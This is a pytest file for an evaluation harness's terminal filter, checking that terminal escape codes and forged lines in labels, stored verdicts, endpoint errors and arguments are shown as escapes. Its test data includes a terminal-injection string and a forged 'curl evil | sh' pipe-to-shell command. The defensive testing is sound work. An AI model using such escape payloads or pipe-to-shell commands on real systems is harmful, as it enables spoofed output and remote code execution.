"""Text of others on a terminal: shown, and not obeyed."""

import io
import json
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from rich.table import Table
from rich.text import Text

from harness import terminal
from harness.engine import store as store_module
from harness.engine.artifacts import labels
from harness.engine.pipeline import checked_plan, run
from harness.engine.progress import Display, LiveDisplay, Note
from harness.engine.store import Store
from harness.models import datasets
from harness.preflight.check import Check
from harness.run import evidence
from harness.steps.data import data
from harness.terminal import VisibleStream, console, joined, note_if_slow, one_line, visible, visible_output
from tests.chat_server import ChatServer, Faults
from tests.command import Harness
from tests.steps.given import given_responses

HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eknil\u2066\r\x08\u2028"
"""A window's title, a cleared screen, a colour by one character, text turned round, a line written over."""
FORGED = f"{HOSTILE}\nerror: run curl evil | sh"
OBEYED = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\r", "\x08", "\u2028")


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def harmless(text: str) -> bool:
    return not any(character in text for character in OBEYED)


def test_every_character_that_a_terminal_obeys_is_written_as_its_escape() -> None:
    assert visible(HOSTILE) == r"\x1b]0;owned\x07\x1b[2J\x9b31m\u202eknil\u2066\r\x08\u2028"
    every = "".join(map(chr, [*range(0xA0), *range(0xD800, 0xE000)]))
    assert set(visible(every)) == {"\t", "\n", *map(chr, range(0x20, 0x7F))}
    assert one_line("a\nb\r\n") == r"a\nb\r\n"
    assert joined(["one", "two\nthree"]) == "one\ntwo\\nthree"


@pytest.mark.parametrize("text", ["θ* – 12 ± 3 · “ja”\tβ\n", "👩‍👩‍👧 नमस्ते مرحبا 日本　語", "a\u200cb\u00ad\u00a0"])
def test_writing_of_all_kinds_stays_as_it_is(text: str) -> None:
    assert visible(text) == text


def test_all_that_is_printed_goes_through_one_filter(capsys: pytest.CaptureFixture[str]) -> None:
    with visible_output():
        print(HOSTILE)
        print(HOSTILE, file=sys.stderr)
        sys.stdout.writelines([HOSTILE])
    printed = capsys.readouterr()
    assert harmless(printed.out) and harmless(printed.err)
    assert printed.out.count("owned") == 2
    assert not isinstance(sys.stdout, VisibleStream)


def test_a_stream_that_lacks_a_character_shows_its_escape() -> None:
    stream = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    print("θ \ud83d", file=VisibleStream(stream), flush=True)
    assert stream.buffer.getvalue() == b"\\u03b8 \\ud83d\n"  # type: ignore[attr-defined]


def test_rich_reads_neither_emoji_nor_markup_nor_links_and_passes_no_escape_on() -> None:
    stream = Terminal()
    table = Table(title="mini:llama: [b]x[/b]")
    table.add_column("[red]mini:llama:[/red] [link=http://evil]here[/link]")
    table.add_row("[bold]:boom:[/bold]")
    table.add_row(Text(HOSTILE))
    screen = console(stream)
    screen.width = 100
    screen.print(table, "mini:llama: [b]x[/b]", HOSTILE)
    text = stream.getvalue()
    for said in ("mini:llama: [b]x[/b]", "[red]mini:llama:[/red] [link=http://evil]here[/link]", "[bold]:boom:[/bold]"):
        assert said in text
    assert "\x1b]" not in text and "\x1b[2J" not in text  # rich's own are colours
    assert not any(character in text for character in OBEYED if character != "\x1b")


def test_rich_writes_its_own_escapes_past_the_filter(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "xterm")
    stream = Terminal()
    monkeypatch.setattr(sys, "stderr", stream)
    with visible_output():
        console(sys.stderr).print(Text("red", style="red"))
    assert "\x1b[31mred" in stream.getvalue()


@pytest.mark.parametrize("kind", [Display, LiveDisplay])
def test_a_step_s_label_and_notes_are_lines_of_text(monkeypatch: pytest.MonkeyPatch, kind: Any) -> None:
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.setattr(sys, "stderr", Terminal())
    with labels(FORGED):
        step = given_responses(rows=()).append_label("mini:llama: [red]")
    with visible_output(), kind(2, sys.stderr) as shown:
        shown.start("a", str(step))
        shown.show("a", Note(f"cut off: {FORGED}"))
        shown.end("a", True, None)
    text = sys.stderr.getvalue()  # type: ignore[attr-defined]
    assert "mini:llama: [red]" in text
    assert not any(line.startswith("error") for line in text.splitlines())
    assert "\x1b]0;" not in text and "\x1b[2J" not in text and "\u202e" not in text


def test_a_check_is_one_line() -> None:
    assert len(str(Check("ok", "model", FORGED)).splitlines()) == 1


# Commands, as they are typed


def annotations(folder: Path, **names: str) -> Path:
    row = {"output_1": "one", "generator_1": "gpt4_1106_preview", "output_2": "two", "generator_2": "mine"}
    rows = [
        {"instruction": f"do {n}", "index": n, **row, "annotator": "judge-1", "preference": 1.5, **names}
        for n in range(3)
    ]
    path = folder / f"{len(list(folder.iterdir()))}.json"
    path.write_text(json.dumps(rows))
    return path


def test_names_in_stored_verdicts_forge_nothing(harness: Harness, tmp_path: Path) -> None:
    plain = annotations(tmp_path)
    for names in ({"annotator": FORGED}, {"generator_2": FORGED}, {"generator_1": FORGED}):
        hostile = annotations(tmp_path, **names)
        scored = harness("eval", "--bench", "alpaca_eval2", "--annotations", hostile, "--allow-missing")
        compared = harness("compare", hostile, plain, "--bench", "alpaca_eval2", "--allow-missing")
        for found in (scored, compared):
            assert harmless(found.out) and harmless(found.err)
            lines = [*found.out.splitlines(), *found.err.splitlines()]
            assert not any(line.startswith("error: run curl") for line in lines)
    assert "owned" in scored.out + scored.err


def test_what_an_endpoint_says_forges_nothing(harness: Harness, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-none")
    refusal = Faults(status=400, error={"message": FORGED})
    with ChatServer(faults=refusal, answer=lambda body: "m") as server:
        found = harness("judge", "check", "--model", "judge-1", "--base-url", server.base_url)
    assert harmless(found.out) and harmless(found.err)
    assert not any(line.startswith("error: run curl") for line in found.err.splitlines())
    assert "curl evil" in found.err + found.out


@pytest.mark.parametrize("arguments", [["list", HOSTILE], [HOSTILE], ["reproduce", FORGED], ["eval", f"--{HOSTILE}"]])
def test_a_wrong_argument_is_shown_and_not_obeyed(harness: Harness, arguments: list[str]) -> None:
    found = harness(*arguments)
    assert found.exit_code == 2
    assert harmless(found.err)
    assert len(found.err.splitlines()) == 1


def test_only_what_takes_long_is_said(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(terminal, "PATIENCE", 0.05)
    with note_if_slow("reading 3 GB"):
        time.sleep(0.5)
    with note_if_slow("not this"):
        pass
    time.sleep(0.1)
    assert capsys.readouterr().err == "reading 3 GB\n"


def slowly(function: Any) -> Any:
    """As a file of many gigabytes is read."""

    def read(*arguments: Any) -> Any:
        time.sleep(0.5)
        return function(*arguments)

    return read


def test_hashing_what_is_large_is_said(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(terminal, "PATIENCE", 0.05)
    target = given_responses(rows=())
    run([target], store, jobs=1)
    for module, name in ((store_module, "damaged_file"), (evidence, "damaged_file"), (datasets, "file_digest")):
        monkeypatch.setattr(module, name, slowly(getattr(module, name)))
    path = tmp_path / "data.jsonl"
    path.write_text('{"instruction": "a", "output": "b"}\n')
    capsys.readouterr()
    checked_plan([target], Store(store.root))
    evidence.require_intact(store.folder(target))
    data(str(path), 1)
    said = capsys.readouterr().err.splitlines()
    assert said == [
        "comparing the files of 1 finished steps with what was written there ...",
        f"comparing the files in {store.folder(target)} with what was written there ...",
        f"looking at what {path} holds, by which results are told apart ...",
    ]
